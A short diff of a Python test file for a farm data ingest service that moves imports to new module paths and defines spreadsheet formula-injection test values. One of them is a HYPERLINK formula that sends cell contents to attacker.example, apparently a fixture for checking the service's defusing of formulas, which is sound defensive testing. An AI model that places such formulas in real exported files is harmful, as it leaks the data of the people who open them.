@@ -15,10 +15,10 @@ from openpyxl import load_workbook
 
 from farm_contract.indicators import IndicatorId, IndicatorValue
 from farm_contract.payloads import EventType
-from ingest_service.api import indicators_csv
-from ingest_service.report import LedgerEntry, Report, ledger_csv, summary_csv
-from ingest_service.report_excel import SHEETS, workbook_bytes
-from ingest_service.spreadsheet import FORMULA_STARTS, csv_cell, defuse
+from ingest_service.api.app import indicators_csv
+from ingest_service.report.build import LedgerEntry, Report, ledger_csv, summary_csv
+from ingest_service.report.excel import SHEETS, workbook_bytes
+from ingest_service.report.spreadsheet import FORMULA_STARTS, csv_cell, defuse
 
 COUNTY = "+SUM(1,2)"
 SITE = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
